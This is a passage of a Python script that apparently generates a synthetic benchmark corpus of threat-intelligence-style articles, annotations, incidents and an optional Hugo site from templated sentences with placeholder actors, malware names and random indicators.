        """A sentence from a template, as (Markdown, visible text)."""
        template = template or self.rng.choice(SENTENCES)
        md, text = [], []
        for literal, slot in SLOT.findall(template + "{}"):
            md.append(literal)
            text.append(literal)
            if slot:
                t = self.fill(slot)
                md.append(t.md)
                text.append(t.text)
        md, text = "".join(md), "".join(text)
        if text[:1].islower() and md[:1] == text[:1]:
            md, text = md[0].upper() + md[1:], text[0].upper() + text[1:]
        return md, text


SLOT = re.compile(r"([^{]*)\{(\w*)\}")
SENTENCES = [
    "In {month}, {agency} published an advisory describing {malware}, a loader it attributed to {actor}.",
    "The operators registered {domain} and pointed it at {ip}, a server hosted in {country}.",
    "According to {pub}, the intrusion at {org} began with a spearphishing email sent to a recruiter in the {sector} sector.",
    "Investigators recovered a sample with the hash {hash}, which beaconed to {domain} every {n} seconds.",
    "{org} said the attackers had moved {money} before the transfers were noticed.",
    "The loader copied itself to {path} and registered a scheduled task to survive reboots.",
    "Analysts at {vendor} assess with {confidence} confidence that the campaign is linked to {actor}.",
    "Several of the {n} victims were {sector} companies in {country}, according to {vendor}.",
    "The report does not say how the attackers first obtained access, and {org} has not commented.",
    "Researchers noted that the code shares a custom encryption routine with earlier {malware} samples.",
    "A later version moved its command-and-control traffic to port {port} and added a second fallback server.",
    "{agency} estimated losses at {money}, although the figure could not be verified independently.",
    "This is consistent with earlier reporting by {pub} on the interest {actor} has shown in {sector} targets.",
    "The indictment names {person}, who is alleged to have worked for a front company in {city}.",
    "None of the stolen funds had been recovered by {month}, according to court filings.",
    "The implant checks for the mutex {mutex} before it unpacks its second stage.",
    "Staff at {org} first noticed the problem when a {word} service stopped answering in {month}.",
    "{vendor} counted {n} distinct builds of {malware} over the following year.",
    "The attackers reused infrastructure: {domain} resolved to {ip} for at least {n} days.",
    "Public attribution came from {agency}, which named {actor} in {month}.",
    "Money was laundered through accounts in {city} and converted to cryptocurrency within hours.",
    "The same {word} module appears in tools used against {sector} networks in {country}.",
    "{person}, a researcher quoted by {pub}, called the operation careful but not sophisticated.",
    "Logs show the first connection from {ip} on a Friday evening, local time.",
    "The phishing documents posed as job offers from {sector} companies based in {city}.",
    "It is not clear whether {actor} acted alone or shared access with another group.",
    "{org} rebuilt {n} servers and reset every administrator password after the incident.",
    "The campaign is also tracked in the timeline as {ref_incident}.",
    "Sanctions announced in {month} froze assets held by two companies linked to {actor}.",
    "The malware wrote its configuration, encrypted with a single-byte key, to {path}.",
    "Defenders were advised to block {domain} and to search their logs for {ip}.",
    "The team at {vendor} disclosed the vulnerability to the vendor {n} days before the attacks began.",
    "Court documents put the total attempted theft at {money}, of which most was blocked.",
    "The investigation was still open in {month}, and no arrests had been made.",
    "Traffic to {domain} was tunnelled over DNS, which made it harder to spot at the perimeter.",
    "Two weeks later the same actor returned through a forgotten VPN account at {org}.",
    "Employees in {city} received messages that appeared to come from their own IT department.",
    "{agency} shared {n} indicators with partners, including the hash {hash}.",
    "Earlier variants of {malware} lacked the anti-analysis checks seen in this sample.",
    "A spokesperson for {org} declined to say whether customer data had been taken.",
]
HEADINGS = ["What happened", "How they got in", "The {malware} loader", "Attribution",
            "Indicators", "The money trail", "Response from {org}", "Timeline of the intrusion",
            "What the report does not say", "Earlier activity", "Technical details",
            "Infrastructure", "Why it matters", "Victims in {country}"]
# A sentence repeated in two paragraphs of each article, so one annotation
# must pick an occurrence with `prefix`.
REPEATED = ["{org} did not respond to a request for comment.",
            "The figures could not be independently verified.",
            "{vendor} has not published the full sample set."]
BLOCKQUOTE = ["“We have seen this tooling before, and we will see it again,” said {person} of {vendor}.",
              "“The attackers knew exactly which systems to touch,” a statement from {org} said.",
              "“There is no evidence that customer accounts were affected,” {agency} told {pub}."]


def norm(text):
    """Dossier's matching rules: whitespace runs as one space, quotes folded."""
    text = text.translate(QUOTE_FOLD)
    return " ".join(text.split())


QUOTE_FOLD = str.maketrans({"‘": "'", "’": "'", "‚": "'", "‛": "'", "′": "'",
                            "“": '"', "”": '"', "„": '"', "‟": '"', "″": '"'})


def wrap_md(md, width=78):
    """Wraps a paragraph at spaces, never starting a line with something
    Markdown would read as a list, heading, quote or thematic break."""
    lines, line = [], ""
    for word in md.split(" "):
        risky = re.match(r"^([-+*#>=|]|\d+[.)]$)", word)
        if line and len(line) + 1 + len(word) > width and not risky:
            lines.append(line)
            line = word
        else:
            line = f"{line} {word}" if line else word
    lines.append(line)
    return "\n".join(lines)


class Body:
    """An article body as blocks, each with its Markdown and visible text."""

    def __init__(self):
        self.blocks = []  # dicts: kind, md, texts (visible text of each leaf block)

    def add(self, kind, md, texts):
        self.blocks.append({"kind": kind, "md": md, "texts": texts})

    def leaf_texts(self):
        """Every leaf block's normalised text, in order."""
        return [norm(t) for b in self.blocks for t in b["texts"]]


def build_body(art, target_words):
    rng = art.rng
    body = Body()
    words = 0
    n_sections = rng.randint(3, 5)
    extras = {"list": rng.randrange(n_sections), "table": rng.randrange(n_sections),
              "quote": rng.randrange(n_sections)}
    n_code = rng.choices((1, 2, 3), weights=(50, 35, 15))[0]
    code_at = sorted(rng.randrange(n_sections) for _ in range(n_code))
    repeated = art.sentence(rng.choice(REPEATED))
    # Two of the paragraphs every article has (the first, and the first of
    # each section) carry the repeated sentence, never first in the paragraph.
    repeat_in = set(rng.sample(range(n_sections + 1), 2))
    para_index = 0
    headings_used = set()

    def paragraph():
        nonlocal words, para_index
        sentences = [art.sentence() for _ in range(rng.randint(3, 6))]
        if para_index in repeat_in:
            sentences.insert(rng.randint(1, len(sentences)), repeated)
        para_index += 1
        md = " ".join(s[0] for s in sentences)
        text = " ".join(s[1] for s in sentences)
        words += len(text.split())
        body.add("p", wrap_md(md), [text])

    paragraph()
    for s in range(n_sections):
        heading = rng.choice([h for h in HEADINGS if h not in headings_used] or HEADINGS)
        headings_used.add(heading)
        md, text = art.sentence(heading)
        body.add("h", f"## {md}", [text])
        paragraph()
        # More paragraphs while this section is behind its share of the words.
        while words < target_words * (s + 1) / n_sections - 60:
            paragraph()
        if extras["list"] == s:
            items = [art.sentence() for _ in range(rng.randint(3, 6))]
            ordered = rng.random() < 0.3
            md = "\n".join(f"{k + 1 if ordered else '-'}{'.' if ordered else ''} {wrap_md(m).replace(chr(10), chr(10) + '   ')}"
                           for k, (m, _) in enumerate(items))
            words += sum(len(t.split()) for _, t in items)
            body.add("li", md, [t for _, t in items])
        if extras["quote"] == s:
            md, text = art.sentence(rng.choice(BLOCKQUOTE))
            words += len(text.split())
            body.add("bq", "> " + wrap_md(md).replace("\n", "\n> "), [text])
        if extras["table"] == s:
            header = ["Indicator", "Type", "First seen", "Note"]
            rows = []
            for _ in range(rng.randint(3, 6)):
                kind = rng.choice(("domain", "ipv4", "sha256"))
                value = {"domain": rng.domain, "ipv4": rng.ip, "sha256": rng.sha256}[kind]()
                rows.append([f"`{value}`", kind, rng.date(2015, 2025), rng.choice(("C2", "staging", "dropper", "phishing", "exfiltration"))])
            md = "| " + " | ".join(header) + " |\n|---|---|---|---|\n" + \
                 "\n".join("| " + " | ".join(r) + " |" for r in rows)
            texts = header + [c.strip("`") for r in rows for c in r]
            body.add("table", md, texts)
        for _ in range(code_at.count(s)):
            lang, code = code_block(rng)
            body.add("code", f"```{lang}\n{code}\n```", [code])
            if rng.random() < 0.5 and words < target_words:
                paragraph()
    while words < target_words:
        paragraph()
    return body, repeated[1]


# ---------------------------------------------------------------- annotations

def occurrences(leaves, quote):
    """(leaf index, start) of every in-block occurrence of `quote`, overlapping included."""
    found = []
    for i, leaf in enumerate(leaves):
        start = leaf.find(quote)
        while start != -1:
            found.append((i, start))
            start = leaf.find(quote, start + 1)
    return found


def fits_prefix(leaves, at, prefix):
    i, start = at
    before = " ".join(leaves[:i] + [leaves[i][:start]]) if i else leaves[i][:start]
    before = before[:-1] if before.endswith(" ") else before
    return before.endswith(prefix)


def fits_suffix(leaves, at, quote, suffix):
    i, start = at
    after = leaves[i][start + len(quote):]
    after = " ".join([after] + leaves[i + 1:])
    after = after[1:] if after.startswith(" ") else after
    return after.startswith(suffix)


def make_annotations(art, body, repeated, k):
    """K annotations whose quotes anchor exactly once (or once with a prefix)."""
    rng = art.rng
    leaves = body.leaf_texts()
    prose = [(bi, ti) for bi, b in enumerate(body.blocks) if b["kind"] in ("p", "li", "bq")
             for ti in range(len(b["texts"]))]
    out = []
    used_ids = set()
    previous = None  # (leaf words, start, length) of the last window, for overlaps
    for a in range(k):
        ann = {}
        if a == 1 and len(occurrences(leaves, norm(repeated))) == 2:
            # The repeated sentence: pick its second occurrence by prefix.
            at = occurrences(leaves, norm(repeated))[1]
            before = leaves[at[0]][:at[1]].split()
            for n in range(2, 8):
                prefix = " ".join(before[-n:])
                if sum(fits_prefix(leaves, o, prefix) for o in occurrences(leaves, norm(repeated))) == 1:
                    ann = {"quote": repeated, "prefix": prefix + " "}
                    break
        if not ann:
            for _ in range(40):
                if previous and rng.random() < 0.3:
                    # Overlap or nest inside the previous quote's passage.
                    words_, start, length = previous
                    s = max(0, start + rng.randint(-3, length - 1))
                    n = rng.randint(3, 14)
                else:
                    bi, ti = rng.choice(prose)
                    words_ = body.blocks[bi]["texts"][ti].split()
                    n = rng.randint(4, 16) if rng.random() < 0.8 else rng.randint(17, 30)
                    s = rng.randrange(max(1, len(words_) - n))
                quote = " ".join(words_[s:s + n])
                if len(quote) < 12:
                    continue
                found = occurrences(leaves, norm(quote))
                if len(found) != 1:
                    continue
                ann = {"quote": quote}
                previous = (words_, s, len(words_[s:s + n]))
                if rng.random() < 0.1:
                    tail = words_[s + n:s + n + 3]
                    if tail and fits_suffix(leaves, found[0], norm(quote), norm(" ".join(tail))):
                        ann["suffix"] = " " + " ".join(tail)
                break
        if not ann:
            continue
        kind = rng.choices(("note", "claim", "context", "correction", "question"), (30, 30, 20, 10, 10))[0]
        if rng.random() < 0.5:
            aid = slug(" ".join(ann["quote"].split()[:4]))[:40].strip("-") or "q"
            while aid in used_ids or re.fullmatch(r"a\d+", aid):
                aid += "-x"
            used_ids.add(aid)
            ann["id"] = aid
        ann["kind"] = kind
        if kind == "claim" or rng.random() < 0.2:
            ann["confidence"] = rng.choice(("low", "moderate", "high"))
        if rng.random() < 0.3:
            ann["credibility"] = rng.randint(1, 6)
        note = " ".join(art.sentence()[0] for _ in range(rng.randint(1, 3)))
        ann["note"] = note
        ann["incidents"] = [rng.choice(art.incidents)[0] for _ in range(rng.randint(0, 2))]
        ann["entities"] = [rng.choice(art.entities).id for _ in range(rng.randint(0, 3))]
        if rng.random() < 0.2:
            ann["tags"] = rng.sample(TAGS, rng.randint(1, 2))
        ann["sources"] = rng.randint(0, 2)
        # One annotation in ten names techniques (its own stream: see
        # write_entity).
        extra = random.Random(f"extra:{art.index}:{a}")
        if extra.random() < 0.1:
            ann["techniques"] = extra.sample(TECHNIQUES, extra.randint(1, 2))
        out.append(ann)
    return out


def annotations_yaml(rng, anns):
    lines = []
    for ann in anns:
        first = True
        for key in ("id", "quote", "prefix", "suffix"):
            if key in ann:
                lines.append(f"{'- ' if first else '  '}{key}: {q(ann[key].translate(QUOTE_FOLD))}")
                first = False
        lines.append(f"  kind: {ann['kind']}")
        for key in ("confidence", "credibility"):
            if key in ann:
                lines.append(f"  {key}: {ann[key]}")
        lines.append("  note: |")
        lines += ["    " + line for line in wrap_md(ann["note"], 72).split("\n")]
        for key in ("incidents", "entities", "tags", "techniques"):
            if ann.get(key):
                lines.append(f"  {key}: [{', '.join(dict.fromkeys(ann[key]))}]")
        if ann["sources"]:
            lines += sources_yaml(rng, 2, ann["sources"])
        lines.append("")
    return "\n".join(lines)


# ---------------------------------------------------------------- output

def write(path, text):
    with open(path, "w", encoding="utf-8") as f:
        f.write(text)


TITLES = ["{actor} targets {sector} firms in {country}", "Inside the {malware} campaign",
          "{org} confirms breach linked to {actor}", "{agency} warns of {malware} activity",
          "How {actor} laundered {money}", "New {malware} variant spreads through fake job offers",
          "Court filings detail the {org} intrusion", "{vendor} report ties {malware} to {actor}",
          "The {sector} sector in the crosshairs", "Sanctions follow the {org} heist"]

HUGO_CONFIG = """\
baseURL = "https://example.org/"
languageCode = "en"
title = "Benchmark dossier"
# dossier pages its long lists at 200 entries (timeline_page_size) and keeps 50 feed entries.
paginate = 200
rssLimit = 50
[taxonomies]
  tag = "tags"
[markup.highlight]
  # CSS classes, not inline styles, as dossier does.
  noClasses = false
  codeFences = true
  guessSyntax = false
[markup.goldmark.renderer]
  unsafe = false
"""
HUGO_LAYOUTS = {
    "baseof.html": """\
<!DOCTYPE html>
<html lang="en">
<head><meta charset="utf-8"><title>{{ .Title }} | {{ .Site.Title }}</title></head>
<body>
<header><a href="{{ "/" | relURL }}">{{ .Site.Title }}</a> <a href="{{ "/tags/" | relURL }}">Tags</a></header>
<main>{{ block "main" . }}{{ end }}</main>
</body>
</html>
""",
    "single.html": """\
{{ define "main" }}<article>
<h1>{{ .Title }}</h1>
<p><time datetime="{{ .Date.Format "2006-01-02" }}">{{ .Date.Format "2 January 2006" }}</time> · {{ .Params.source }}</p>
<ul class="tags">{{ range .GetTerms "tags" }}<li><a href="{{ .RelPermalink }}">{{ .LinkTitle }}</a></li>{{ end }}</ul>
{{ .Content }}
</article>{{ end }}
""",
    "list.html": """\
{{ define "main" }}<h1>{{ .Title }}</h1>
{{ .Content }}
<ul>{{ range .Paginator.Pages }}
<li><a href="{{ .RelPermalink }}">{{ .Title }}</a>{{ if not .Date.IsZero }} <time datetime="{{ .Date.Format "2006-01-02" }}">{{ .Date.Format "2 January 2006" }}</time>{{ end }}
{{ with .GetTerms "tags" }}<span class="tags">{{ range . }}<a href="{{ .RelPermalink }}">{{ .LinkTitle }}</a> {{ end }}</span>{{ end }}</li>{{ end }}
</ul>
{{ template "_internal/pagination.html" . }}{{ end }}
""",
}


def generator_digest():
    with open(__file__, "rb") as f:
        return hashlib.sha256(f.read()).hexdigest()[:16]


def prepare(out, stamp):
    """Empties a directory this script made; refuses any other non-empty one."""
    if os.path.isdir(out) and os.listdir(out):
        if not os.path.exists(os.path.join(out, STAMP)):
            sys.exit(f"gen_corpus: {out} is not empty and was not made by this script")
        shutil.rmtree(out)
    os.makedirs(out)


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("out")
    parser.add_argument("--articles", type=int, default=10_000)
    parser.add_argument("--annotations", type=int, default=0, metavar="K")
    parser.add_argument("--hugo", metavar="DIR", help="also write the articles as a Hugo site")
    parser.add_argument("--seed", type=int, default=42)
    parser.add_argument("--cached", action="store_true",
                        help="do nothing if OUT was made with the same parameters and generator")
    args = parser.parse_args()
    n, k = args.articles, args.annotations
    stamp = json.dumps({"articles": n, "annotations": k, "seed": args.seed,
                        "hugo": os.path.abspath(args.hugo) if args.hugo else None,
                        "generator": generator_digest()}, sort_keys=True)
    stamps = [os.path.join(args.out, STAMP)] + ([os.path.join(args.hugo, STAMP)] if args.hugo else [])
    if args.cached and all(os.path.exists(s) and open(s).read() == stamp for s in stamps):
        return
    for d in [args.out] + ([args.hugo] if args.hugo else []):
        prepare(d, stamp)

    rng = Rand(f"{args.seed}:world")
    entities = make_entities(max(4, n // 20), rng)
    by_kind = {kind: [e for e in entities if e.kind == kind] for kind in ("actor", "malware", "organisation", "country")}
    content = os.path.join(args.out, "content")
    for sub in ("articles", "incidents", "entities"):
        os.makedirs(os.path.join(content, sub))
    write(os.path.join(args.out, "dossier.yaml"),
          'title: "Benchmark dossier"\n'
          'description: "A synthetic dossier written by bench/gen_corpus.py."\n'
          'base_url: "/"\nlanguage: en\nhighlight_theme: InspiredGitHub\n')
    write(os.path.join(content, "index.md"),
          "A synthetic dossier for benchmarks: articles with code blocks, annotations,\n"
          "incidents and entities, all generated by `bench/gen_corpus.py`.\n")
    for e in entities:
        write_entity(os.path.join(content, "entities", f"{e.id}.yaml"), e, rng, entities)
    incidents = []
    for i in range(max(1, n // 10)):
        irng = Rand(f"{args.seed}:incident:{i}")
        path = os.path.join(content, "incidents", f"incident-{i:05d}.yaml")
        write_incident(path, i, irng, by_kind)
        title = open(path, encoding="utf-8").readline()[len("title: "):].strip()
        incidents.append((f"incident-{i:05d}", json.loads(title)))

    if args.hugo:
        os.makedirs(os.path.join(args.hugo, "content", "posts"))
        os.makedirs(os.path.join(args.hugo, "layouts", "_default"))
        write(os.path.join(args.hugo, "hugo.toml"), HUGO_CONFIG)
        for name, text in HUGO_LAYOUTS.items():
            write(os.path.join(args.hugo, "layouts", "_default", name), text)
        write(os.path.join(args.hugo, "content", "_index.md"),
              "---\ntitle: \"Benchmark dossier\"\n---\n\nThe same articles as the dossier corpus.\n")

    ids = set()
    for a in range(n):
        arng = Rand(f"{args.seed}:article:{a}")
        art = Article(a, arng, entities, by_kind, incidents)
        title_md, title = art.sentence(arng.choice(TITLES))
        base = "-".join(slug(title).split("-")[:7])
        aid, m = base, 2
        while aid in ids:
            aid, m = f"{base}-{m}", m + 1
        ids.add(aid)
        published = arng.date()
        author = arng.person()
        reliability = arng.choice("AABBBCCDEF")
        tags = list(dict.fromkeys(arng.sample(TAGS, arng.randint(2, 4)) + [art.actor.id]))
        url = f"https://{art.host}/{published[:4]}/{published[5:7]}/{aid}"
        summary = art.sentence()[1]
        body, repeated = build_body(art, arng.randint(500, 640))
        markdown = "\n\n".join(b["md"] for b in body.blocks) + "\n"
        write(os.path.join(content, "articles", f"{aid}.md"),
              f"---\ntitle: {q(title)}\npublished: {published}\nsource: {q(art.pub)}\nurl: {q(url)}\n"
              f"author: {q(author)}\nreliability: {reliability}\ntlp: clear\ntags: [{', '.join(tags)}]\n"
              f"summary: {q(summary)}\n---\n\n{markdown}")
        if k:
            anns = make_annotations(art, body, repeated, k)
            write(os.path.join(content, "articles", f"{aid}.annotations.yaml"), annotations_yaml(arng, anns))
        if args.hugo:
            # Hugo reads `url` as the page's own path: the source's address is `source_url`.
            hugo_md = re.sub(r"\]\(@([a-z0-9-]+)\)", r"](/refs/\1/)", markdown)
            write(os.path.join(args.hugo, "content", "posts", f"{aid}.md"),
                  f"---\ntitle: {q(title)}\ndate: {published}\nsource: {q(art.pub)}\nsource_url: {q(url)}\n"
                  f"author: {q(author)}\nreliability: {reliability}\ntags: [{', '.join(tags)}]\n"
                  f"summary: {q(summary)}\n---\n\n{hugo_md}")
    for s in stamps:
        write(s, stamp)


if __name__ == "__main__":
    main()
